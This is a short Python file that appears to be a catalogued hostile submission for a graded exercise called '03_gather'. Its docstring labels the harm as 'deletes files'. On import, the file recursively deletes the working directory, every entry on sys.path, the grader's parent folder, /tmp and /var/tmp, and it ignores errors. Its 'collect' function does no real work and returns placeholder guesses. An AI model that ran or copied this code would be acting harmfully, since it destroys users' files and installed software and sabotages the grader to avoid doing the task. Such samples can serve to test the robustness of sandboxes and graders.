"""Deletes the course, its folder, and what else it may delete.

exercise: 03_gather
catalogue: 61
harm: deletes files
"""

import os
import shutil
import sys

import grader

for folder in [os.getcwd(), *sys.path, os.path.dirname(os.path.dirname(grader.__file__)), "/tmp", "/var/tmp"]:
    shutil.rmtree(folder, ignore_errors=True)


async def collect(first, second, third):
    os.chdir("/")
    return ["guess", "guess", "guess"]
